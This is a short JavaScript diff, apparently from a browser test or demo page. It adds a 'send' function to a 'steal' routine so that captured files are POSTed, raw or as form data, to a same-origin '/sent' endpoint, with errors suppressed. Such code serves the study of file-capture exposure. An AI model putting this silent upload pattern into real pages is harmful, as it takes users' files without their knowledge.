@@ -14,6 +14,17 @@ function steal(how, file) {
   const line = document.createElement('li');
   line.textContent = `${how}: ${file.name}`;
   document.querySelector('#stolen')?.append(line);
+  if (parameters.get('send')) send(file, parameters.get('send'));
+}
+
+/** Sends what was stolen, whole or in a form. */
+function send(file, how) {
+  let body = file;
+  if (how === 'form') {
+    body = new FormData();
+    body.append('up', file);
+  }
+  void fetch('/sent', { method: 'POST', body }).catch(() => {});
 }
 
 /** Takes what it can out of anything: files, lists, events, transfers, inputs, entries, handles; of any frame. */
